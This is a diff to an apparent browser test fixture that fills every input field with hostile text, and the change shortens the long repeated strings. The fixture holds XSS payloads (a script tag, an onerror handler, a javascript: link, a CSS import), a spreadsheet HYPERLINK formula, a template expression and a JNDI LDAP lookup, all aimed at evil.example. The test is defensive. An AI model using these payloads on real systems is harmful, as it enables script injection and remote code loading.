@@ -1,4 +1,4 @@
-"""In a real browser, hostile and endless text in every field: no script, no other host, nothing over the page, nothing too wide."""
+"""In a real browser, hostile and long text in every field: no script, no other host, nothing over the page, nothing too wide."""
 
 from __future__ import annotations
 
@@ -26,12 +26,12 @@ MARKUP = (
     '<script>window.__pwned=1</script><img src="http://evil.example/i.png" onerror="window.__pwned=1"> **bold** `code` :red[red] $x^2$ '
     "![i](http://evil.example/m.png) [x](javascript:window.__pwned=1) <style>@import 'http://evil.example/s.css'</style>"
 )
-# In turn: markup of all sorts, a word without an end, what programs take for a command, letters of other scripts.
+# In turn: markup of all sorts, a word as long as any, what programs take for a command, letters of other scripts.
 POISON = (
     MARKUP,
-    "Endless" * 300,
+    "Endless" * 8,
     '=HYPERLINK("http://evil.example")|{{7*7}}${jndi:ldap://evil.example}%s%n',
-    "\U0001f469\u200d\U0001f469\u200d\U0001f467 한반도를긴낱말로써서줄을바꾸지않음" * 20,
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467 한반도를긴낱말로써서줄을바꾸지않음" * 2,
 )
 # A long word may be of use to nobody, but a drawing or a page that cannot be read is of less.
 PLAIN = (
